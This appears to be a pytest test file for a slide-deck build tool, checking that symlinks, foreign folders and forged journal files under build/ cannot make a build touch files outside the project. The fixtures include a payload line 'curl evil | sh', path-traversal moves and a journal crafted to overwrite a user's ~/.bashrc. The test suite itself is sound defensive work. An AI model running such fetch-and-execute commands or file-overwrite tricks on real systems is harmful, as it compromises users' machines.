"""A project's build/ is untrusted too: links, foreign folders and forged journals there never
make a build write, read or delete outside the project."""

from __future__ import annotations

import errno
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from deckgen.build.pipeline import BuildOptions, build
from deckgen.errors import EnvironmentProblem
from helpers import pdf_text, run

PDF_ONLY = BuildOptions(formats=("pdf",))
OLD = time.time() - 3 * 24 * 3600  # older than any cached figure is kept


@pytest.fixture
def outside(tmp_path_factory):
    """A folder outside the project, its files (a user's dotfiles, say) to be kept as they are."""
    folder = tmp_path_factory.mktemp("outside")
    for name in ("bashrc", "notes.txt", "old.svg"):
        (folder / name).write_text(f"the user's own {name}\n")
        os.utime(folder / name, (OLD, OLD))
    return folder


def snapshot(folder: Path) -> dict[str, tuple[bytes, int]]:
    """Every file under ``folder`` (links as links): its bytes and modification time."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.is_symlink():
            found[str(path.relative_to(folder))] = (os.readlink(path).encode(), 0)
        elif path.is_file():
            found[str(path.relative_to(folder))] = (path.read_bytes(), path.stat().st_mtime_ns)
    return found


def link_message(path: Path, target: Path) -> str:
    return (f"error: {path}: is a symbolic link (to {target}); deckgen writes only into real "
            "files and folders of the project (remove the link, then build again)\n")


# ---- links and foreign folders under build/ ----------------------------------------------------

def test_a_cloned_build_link_cannot_make_the_journal_replace_a_users_file(make_project, minimal_files,
                                                                          outside, capsys):
    """The project ships build/ as a link to its own folder, holding a journal whose move would
    put the project's file in place of the user's ~/.bashrc."""
    project = make_project(minimal_files)
    shipped = project.root / "shipped"
    (shipped / ".deckgen-cache").mkdir(parents=True)
    (shipped / "payload").write_text("curl evil | sh\n")
    journal = {"moves": [[str(shipped / "payload"), str(outside / "bashrc")]], "removes": [],
               "manifest": {"version": 1, "environment": {}, "outputs": {}}}
    (shipped / ".deckgen-cache" / "journal.json").write_text(json.dumps(journal))
    (project.root / "build").symlink_to("shipped")
    before, shipped_before = snapshot(outside), snapshot(shipped)

    code, out, err = run(capsys, "build", str(project.root))

    assert (code, out) == (2, "")
    assert err == link_message(project.build_dir, Path("shipped"))
    assert snapshot(outside) == before
    assert snapshot(shipped) == shipped_before


@pytest.mark.parametrize("linked", ["build", "build/.deckgen-cache", "build/.deckgen-tmp",
                                    "build/.deckgen-cache/figures"])
def test_a_folder_under_build_that_is_a_link_is_refused(make_project, minimal_files, outside,
                                                        capsys, linked):
    project = make_project(minimal_files)
    (project.root / linked).parent.mkdir(parents=True, exist_ok=True)
    (project.root / linked).symlink_to(outside)
    before = snapshot(outside)

    code, out, err = run(capsys, "build", str(project.root))

    assert (code, out) == (2, "")
    assert err == link_message(project.root / linked, outside)
    assert snapshot(outside) == before
    assert not list(project.root.glob("build/*.p*"))  # nothing was written


def test_a_linked_tmp_folder_of_an_earlier_layout_is_never_cleared(make_project, minimal_files,
                                                                   outside, capsys):
    project = make_project(minimal_files)
    (project.build_dir / ".deckgen-cache").mkdir(parents=True)
    (project.build_dir / ".deckgen-cache" / "tmp").symlink_to(outside)
    before = snapshot(outside)

    code, _, err = run(capsys, "build", str(project.root))

    assert (code, err) == (0, "")
    assert snapshot(outside) == before


def test_a_lock_that_is_a_link_is_refused(make_project, minimal_files, outside, capsys):
    """Opening the lock would create a file at the link's target, outside the project."""
    project = make_project(minimal_files)
    (project.build_dir / ".deckgen-cache").mkdir(parents=True)
    link = project.build_dir / ".deckgen-cache" / "lock"
    link.symlink_to(outside / "made-by-deckgen")
    before = snapshot(outside)

    code, out, err = run(capsys, "build", str(project.root))

    assert (code, out) == (2, "")
    assert err == link_message(link, outside / "made-by-deckgen")
    assert snapshot(outside) == before


def test_a_journal_that_is_a_link_is_discarded_unread(make_project, minimal_files, outside, capsys):
    project = make_project(minimal_files)
    (outside / "journal.json").write_text(json.dumps(
        {"moves": [[str(outside / "notes.txt"), str(outside / "bashrc")]], "removes": [],
         "manifest": {"version": 1, "environment": {}, "outputs": {}}}))
    (project.build_dir / ".deckgen-cache").mkdir(parents=True)
    link = project.build_dir / ".deckgen-cache" / "journal.json"
    link.symlink_to(outside / "journal.json")
    before = snapshot(outside)

    code, _, err = run(capsys, "build", str(project.root))

    assert code == 0
    assert err == ("build/.deckgen-cache/journal.json: warning: discarded the journal of an "
                   "interrupted build: it is a symbolic link or not a regular file, which deckgen "
                   "never writes (nothing to do: what it would have finished is rendered again)\n")
    assert snapshot(outside) == before
    assert not link.exists() and not link.is_symlink()


def test_a_manifest_linked_to_a_pipe_outside_neither_hangs_nor_is_read(make_project, minimal_files,
                                                                       outside):
    project = make_project(minimal_files)
    (project.build_dir / ".deckgen-cache").mkdir(parents=True)
    os.mkfifo(outside / "pipe")
    (project.build_dir / ".deckgen-cache" / "manifest.json").symlink_to(outside / "pipe")

    done = subprocess.run([sys.executable, "-c", "from deckgen.cli import entry_point; entry_point()",
                           "build", "--only", "pdf", str(project.root)],
                          capture_output=True, text=True, timeout=60, check=False)

    assert done.returncode == 0, done.stderr
    manifest = project.build_dir / ".deckgen-cache" / "manifest.json"
    assert not manifest.is_symlink() and json.loads(manifest.read_text())["version"] == 1


def test_a_link_in_the_figure_cache_is_replaced_not_read_or_touched(make_project, minimal_files,
                                                                    outside):
    project = make_project(minimal_files)
    build(project, PDF_ONLY)
    figures = project.build_dir / ".deckgen-cache" / "figures"
    (cached,) = figures.glob("*.svg")
    secret = outside / "secret.svg"
    secret.write_bytes(cached.read_bytes().replace(b"</svg>", b"<text>SECRET-OUTSIDE</text></svg>"))
    os.utime(secret, (OLD, OLD))
    cached.unlink()
    cached.symlink_to(secret)
    before = snapshot(outside)
    section = project.source / "sections" / "one.md"
    section.write_text(section.read_text().replace("Some prose", "Some edited prose"))

    result = build(project, PDF_ONLY)

    assert result.cache["figures"] == {"hits": 0, "rendered": 1}
    assert snapshot(outside) == before
    assert not cached.is_symlink()
    assert "SECRET-OUTSIDE" not in pdf_text(project)


@pytest.mark.parametrize("folder", ["build", "build/.deckgen-cache"])
def test_a_build_folder_of_another_user_is_refused(make_project, minimal_files, capsys, folder):
    if os.geteuid() != 0:
        pytest.skip("giving a folder to another user needs root")
    project = make_project(minimal_files)
    (project.root / folder).mkdir(parents=True)
    os.chown(project.root / folder, 12345, 12345)

    code, out, err = run(capsys, "build", str(project.root))

    assert (code, out) == (2, "")
    assert err == (f"error: {project.root / folder}: the folder belongs to another user (uid 12345); "
                   "deckgen writes only into folders you own (remove it, or build a copy of the "
                   "project you own)\n")
    assert list((project.root / folder).iterdir()) == []


# ---- the journal, checked as data ----------------------------------------------------------------

MANIFEST = {"version": 1, "environment": {}, "outputs": {}}


def journals(outside: Path) -> dict[str, object]:
    return {
        "moves not a list": {"moves": 5},
        "not an object": "moves",
        "names not strings": {"moves": [[1, 2]], "removes": [], "manifest": MANIFEST},
        "absolute paths": {"moves": [[str(outside / "notes.txt"), str(outside / "bashrc")]],
                           "removes": [], "manifest": MANIFEST},
        "up and out": {"moves": [["../../../outside/notes.txt", "../../bashrc"]], "removes": [],
                       "manifest": MANIFEST},
        "removal outside": {"moves": [], "removes": [str(outside / "bashrc")], "manifest": MANIFEST},
        "manifest of the wrong shape": {"moves": [], "removes": [], "manifest": {"outputs": 3}},
    }


NOTICES = {
    "moves not a list": "its 'moves' and 'removes' are not lists",
    "not an object": "it is not a JSON object",
    "names not strings": "a move is not from tmp/ to an output in build/: [1, 2]",
    "absolute paths": "a move is not from tmp/ to an output in build/: [\"{o}/notes.txt\", \"{o}/bashrc\"]",
    "up and out": ("a move is not from tmp/ to an output in build/: "
                   "[\"../../../outside/notes.txt\", \"../../bashrc\"]"),
    "removal outside": "a removal is not of an output in build/: \"{o}/bashrc\"",
    "manifest of the wrong shape": "its manifest is not one deckgen writes",
}


@pytest.mark.parametrize("kind", list(NOTICES))
def test_a_journal_deckgen_could_not_have_written_is_discarded_with_a_notice(
        make_project, minimal_files, outside, capsys, kind):
    project = make_project(minimal_files)
    build(project, PDF_ONLY)
    journal = project.build_dir / ".deckgen-cache" / "journal.json"
    journal.write_text(json.dumps(journals(outside)[kind]))
    before = snapshot(outside)

    code, out, err = run(capsys, "build", "--only", "pdf", str(project.root))

    assert code == 0
    notice = NOTICES[kind].replace("{o}", str(outside))
    assert err == ("build/.deckgen-cache/journal.json: warning: discarded the journal of an "
                   f"interrupted build: {notice} (nothing to do: what it would have finished is "
                   "rendered again)\n")
    assert out.startswith("up to date: ")
    assert not journal.exists()
    assert snapshot(outside) == before


def test_a_move_that_fails_is_a_clear_error_and_the_next_build_completes_it(
        make_project, minimal_files, monkeypatch, capsys):
    """As when build/.deckgen-cache is on another file system than build/ (EXDEV)."""
    project = make_project(minimal_files)
    build(project)
    section = project.source / "sections" / "one.md"
    section.write_text(section.read_text().replace("Some prose", "Some moved prose"))
    real_replace = os.replace

    def cross_device(source, target, **kwargs):
        if str(target).endswith(".pptx"):
            raise OSError(errno.EXDEV, os.strerror(errno.EXDEV), str(source), None, str(target))
        return real_replace(source, target, **kwargs)

    monkeypatch.setattr(os, "replace", cross_device)
    code, out, err = run(capsys, "build", str(project.root))
    assert (code, out) == (2, "")
    assert err == (f"error: {project.build_dir}: could not move the new outputs into place: "
                   "Invalid cross-device link (make room or fix the folder's permissions; the next "
                   "build finishes the move or renders the outputs again)\n")
    assert (project.build_dir / ".deckgen-cache" / "journal.json").exists()

    monkeypatch.setattr(os, "replace", real_replace)
    code, out, err = run(capsys, "build", str(project.root))
    assert (code, err) == (0, "")
    assert out.count("up to date: ") == 2  # the journal's moves were completed
    assert "Some moved prose" in pdf_text(project)
    assert not (project.build_dir / ".deckgen-cache" / "journal.json").exists()


def test_a_journal_whose_moves_fail_again_is_discarded_and_the_outputs_rendered_again(
        make_project, minimal_files, monkeypatch, capsys):
    project = make_project(minimal_files)
    build(project, PDF_ONLY)
    section = project.source / "sections" / "one.md"
    section.write_text(section.read_text().replace("Some prose", "Some moved prose"))
    real_replace = os.replace
    unmovable: set[str] = set()

    def cross_device(source, target, **kwargs):
        if str(target).endswith(".pdf") and (not unmovable or source in unmovable):
            unmovable.add(source)  # this staged file can never be moved
            raise OSError(errno.EXDEV, os.strerror(errno.EXDEV))
        return real_replace(source, target, **kwargs)

    monkeypatch.setattr(os, "replace", cross_device)
    assert run(capsys, "build", "--only", "pdf", str(project.root))[0] == 2

    code, out, err = run(capsys, "build", "--only", "pdf", str(project.root))

    assert code == 0
    assert err == (f"build/.deckgen-cache/journal.json: warning: discarded the journal of an "
                   f"interrupted build: its moves failed again ({project.build_dir}: could not move "
                   "the new outputs into place: Invalid cross-device link (make room or fix the "
                   "folder's permissions; the next build finishes the move or renders the outputs "
                   "again)) (nothing to do: what it would have finished is rendered again)\n")
    assert out.startswith("wrote: ")
    assert "Some moved prose" in pdf_text(project)
    assert list((project.build_dir / ".deckgen-tmp").iterdir()) == []



def test_a_build_never_writes_or_deletes_outside_the_project(make_project, minimal_files, outside,
                                                             capsys):
    """Every kind of planted link and journal at once, then two builds."""
    project = make_project(minimal_files)
    cache_dir = project.build_dir / ".deckgen-cache"
    cache_dir.mkdir(parents=True)
    (cache_dir / "tmp").symlink_to(outside)
    (cache_dir / "manifest.json").symlink_to(outside / "notes.txt")
    (project.build_dir / "a-minimal-brief.pdf").symlink_to(outside / "bashrc")
    (cache_dir / "journal.json").write_text(json.dumps(
        {"moves": [[str(outside / "notes.txt"), str(outside / "bashrc")]],
         "removes": [str(outside / "old.svg")], "manifest": MANIFEST}))
    before = snapshot(outside)

    assert run(capsys, "build", str(project.root))[0] == 0
    assert run(capsys, "build", str(project.root))[0] == 0
    assert snapshot(outside) == before
    assert {p.name for p in outside.iterdir()} == {"bashrc", "notes.txt", "old.svg"}


def test_a_build_through_the_library_raises_the_same_refusal(make_project, minimal_files, outside):
    project = make_project(minimal_files)
    (project.root / "build").symlink_to(outside)
    with pytest.raises(EnvironmentProblem, match="is a symbolic link"):
        build(project)
